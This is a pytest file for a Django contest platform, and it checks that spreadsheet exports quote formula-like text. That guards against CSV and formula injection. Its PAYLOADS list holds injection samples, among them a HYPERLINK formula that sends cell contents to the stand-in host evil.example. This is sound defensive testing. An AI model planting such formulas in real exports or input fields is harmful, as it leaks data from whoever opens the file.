"""Every spreadsheet the platform writes shows what people typed as text, never runs it as a formula (CSV and
formula injection, OWASP): ``contests.xlsx.spreadsheet_safe`` and each export that uses it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from contests.xlsx import spreadsheet_safe

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+2", "-1+2", "\t=1+2", "\r=1+2", "\n=1+2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_safe_turns_formulas_into_text(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "a=b", "", 7, -3, Decimal("-1.5"), None, "1,3"])
def test_spreadsheet_safe_leaves_everything_else_alone(value):
    assert spreadsheet_safe(value) == value


# --- the question bank's export: text cells that come back unchanged -------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_bank_export_writes_formula_like_text_as_quoted_text_that_round_trips(payload):
    from quizzes.importing.base import SINGLE, ParsedChoice, ParsedQuestion
    from quizzes.importing.excel import parse_excel
    from quizzes.importing.export import export_workbook

    question = ParsedQuestion(
        where="",
        type=SINGLE,
        text=payload,
        choices=[ParsedChoice(payload, True), ParsedChoice("Không", False)],
        explanation=payload,
    )
    data = export_workbook([question])
    cells = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2) for c in row]
    typed = [c for c in cells if c.value == payload]
    assert len(typed) == 3, "question, choice and explanation are there, exactly as typed"
    assert all(c.data_type == "s" and c.quotePrefix for c in typed), "text, and stays text when edited"
    [parsed] = parse_excel(data)
    assert parsed.text == payload and parsed.choices[0].text == payload


# --- the organisers' results reports ----------------------------------------------------------------------


@pytest.fixture
def poisoned_event(make_event, make_user, complete_profile, now, organisation):
    from leaderboard import services as board_services

    event = make_event(state="open")
    for index, payload in enumerate(PAYLOADS):
        user = make_user(
            f"p{index}@example.vn",
            profile={**complete_profile(f"+8491200070{index}"), "full_name": payload, "organisation_name": payload},
        )
        board_services.score_record(
            rnd=event.rounds.get(), user=user, points=Decimal(index), max_points=Decimal(10), submitted_at=now
        )
    return event


def _runnable(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.django_db
def test_results_csv_escapes_every_formula(client, organiser, poisoned_event):
    client.force_login(organiser)
    body = client.get(reverse("event_results_csv", args=[poisoned_event.pk])).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert {"'" + payload for payload in PAYLOADS} <= set(cells)
    assert not [cell for cell in cells if _runnable(cell)]


@pytest.mark.django_db
def test_results_workbook_escapes_every_formula(client, organiser, poisoned_event):
    client.force_login(organiser)
    response = client.get(reverse("event_report_xlsx", args=[poisoned_event.pk]))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f" or (isinstance(c.value, str) and _runnable(c.value))]
    values = {c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells}
    assert {"'" + payload.replace("\r", "\n") for payload in PAYLOADS} <= values  # XML keeps no bare \r
